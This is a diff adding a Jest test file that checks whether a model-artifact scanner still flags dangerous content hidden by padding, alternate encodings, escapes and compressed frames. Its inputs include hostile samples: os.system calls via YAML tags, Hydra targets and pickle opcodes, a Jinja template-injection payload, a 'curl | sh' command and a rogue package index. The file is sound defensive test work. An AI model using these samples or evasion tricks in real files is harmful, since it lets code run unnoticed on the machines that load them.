@@ -1,0 +1,183 @@
+import { describe, expect, it } from '@jest/globals';
+import { inspectBytes } from '../support/inspect-bytes.js';
+
+/** Padding, disguises and order that loaders do not mind must not hide anything from the scanner. */
+type Case = readonly [what: string, name: string, content: string | Uint8Array, told: string];
+
+const ascii = (text: string): Buffer => Buffer.from(text, 'latin1');
+const wide = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
+const mebibytes = (count: number): string => 'x'.repeat(count * 2 ** 20);
+
+async function expectTold([, name, content, told]: Case): Promise<void> {
+  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
+  expect((await inspectBytes(bytes, name)).told).toContain(told);
+}
+
+const target = '"_target_": "os.system", "command": "echo hello"';
+const applied = '!!python/object/apply:os.system [echo hello]';
+const lambda =
+  '"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "broken"}}}}]}';
+
+describe('a key that a loader acts on', () => {
+  it.each<Case>([
+    [
+      'behind 17 MiB',
+      'any.json',
+      `{"a": "${mebibytes(17)}", ${target}}`,
+      'critical manifest/dangerous-target',
+    ],
+    ['in UTF-16', 'any.json', wide(`{${target}}`), 'critical manifest/dangerous-target'],
+    [
+      'with an escaped letter',
+      'any.json',
+      `{${target.replace('target', 't\\u0061rget')}}`,
+      'critical manifest/dangerous-target',
+    ],
+    [
+      'broken by a line',
+      'any.yaml',
+      '? "_tar\\\n  get_"\n: os.system\n',
+      'critical manifest/dangerous-target',
+    ],
+    [
+      'with an escaped tag',
+      'any.yaml',
+      `a: ${applied.replace('python', 'pyth%6fn')}`,
+      'critical manifest/python-tag',
+    ],
+    ['behind 2 MiB of YAML', 'any.yaml', `# ${mebibytes(2)}\na: ${applied}`, 'critical manifest/python-tag'],
+    [
+      'behind a hundred thousand items',
+      'config.json',
+      `{"a": [${'1,'.repeat(200_000)}1], ${target}}`,
+      'critical manifest/dangerous-target',
+    ],
+  ])('%s is acted on', async (...row) => {
+    await expectTold(row);
+  });
+});
+
+describe('a source of packages', () => {
+  const index = '--index-url https://example.invalid/simple\n';
+  it.each<Case>([
+    [
+      'behind a long comment',
+      'requirements.txt',
+      `#${mebibytes(1)}\n${index}`,
+      'warning manifest/package-source',
+    ],
+    [
+      'behind blanks',
+      'requirements.txt',
+      `a ${' '.repeat(5_000)}${index}`,
+      'warning manifest/package-source',
+    ],
+    ['in UTF-16', 'requirements.txt', wide(index), 'warning manifest/package-source'],
+    [
+      'in UTF-7',
+      'requirements.txt',
+      `# coding: utf-7\n${index.replaceAll('-', '+AC0-')}`,
+      'warning manifest/package-source',
+    ],
+    ['beside a control character', 'requirements.txt', `# \x01\n${index}`, 'warning manifest/package-source'],
+    [
+      'shortened',
+      'requirements.txt',
+      index.replace('--index-url', '--extra'),
+      'warning manifest/package-source',
+    ],
+    ['glued', 'requirements.txt', index.replace('--index-url ', '-i'), 'warning manifest/package-source'],
+    ['in quotes', 'requirements.txt', index.replace(/https\S+/, '"$&"'), 'warning manifest/package-source'],
+  ])('%s is judged', async (...row) => {
+    await expectTold(row);
+  });
+});
+
+describe('a command', () => {
+  it.each<Case>([
+    [
+      'behind blanks',
+      'dvc.yaml',
+      `cmd: echo ${' '.repeat(20_000)}; curl a | sh`,
+      'critical manifest/shell-command',
+    ],
+    [
+      'longer than can be judged',
+      'dvc.yaml',
+      `cmd: "echo ${mebibytes(2)}"`,
+      'critical manifest/shell-command',
+    ],
+  ])('%s is judged', async (...row) => {
+    await expectTold(row);
+  });
+});
+
+describe('a template', () => {
+  it('with a NUL is rendered', async () => {
+    await expectTold([
+      '',
+      'chat_template.jinja',
+      "\0{{ ''.__class__.__mro__[1].__subclasses__() }}",
+      'critical jinja-template/python-internals',
+    ]);
+  });
+});
+
+describe('a Keras configuration', () => {
+  it.each<Case>([
+    ['behind blanks', 'model.json', `${' '.repeat(70_000)}{${lambda}}`, 'warning keras/lambda-layer'],
+    [
+      'of whose keys the ninth of a name counts',
+      'model.json',
+      `{"class_name": "Sequential", "config": {"layers": [{"class_name": "system", ${'"module": "keras.layers", '.repeat(9)}"module": "os", "config": {}}]}}`,
+      'critical keras/dangerous-import',
+    ],
+  ])('%s is judged', async (...row) => {
+    await expectTold(row);
+  });
+});
+
+describe('a pickle without PROTO', () => {
+  const call = "cos\nsystem\n(S'echo hello'\ntR";
+  it.each<Case>([
+    [
+      'that calls before an import that fails',
+      'model.bin',
+      `${call}0cx-y\nz\n.`,
+      'critical pickle/dangerous-call',
+    ],
+    [
+      'that calls before what is no text',
+      'model.bin',
+      ascii(`${call}0c\xff\xfe\nz\n.`),
+      'critical pickle/dangerous-call',
+    ],
+    ['behind many streams', 'model.bin', `${'N.'.repeat(20)}${call}.`, 'critical pickle/dangerous-call'],
+    [
+      'behind a line of 17 MiB',
+      'model.bin',
+      `V${mebibytes(17)}\n0${call}.`,
+      'critical pickle/dangerous-call',
+    ],
+    [
+      'of a module whose name is no identifier',
+      'model.bin',
+      'cmy-module\nrun\n(tR.',
+      'warning pickle/foreign-call',
+    ],
+  ])('%s is run', async (...row) => {
+    await expectTold(row);
+  });
+});
+
+describe('a compressed stream', () => {
+  it('behind more skippable frames than anybody writes is unpacked', async () => {
+    const skippable = Buffer.from('502a4d1800000000', 'hex');
+    const frame = Buffer.from('28b52ffd200d69000063636f730a73797374656d0a28742e', 'hex');
+    const { formats } = await inspectBytes(
+      Buffer.concat([...Array<Buffer>(40).fill(skippable), frame]),
+      'a.bin',
+    );
+    expect(formats).toContain('zstd');
+  });
+});
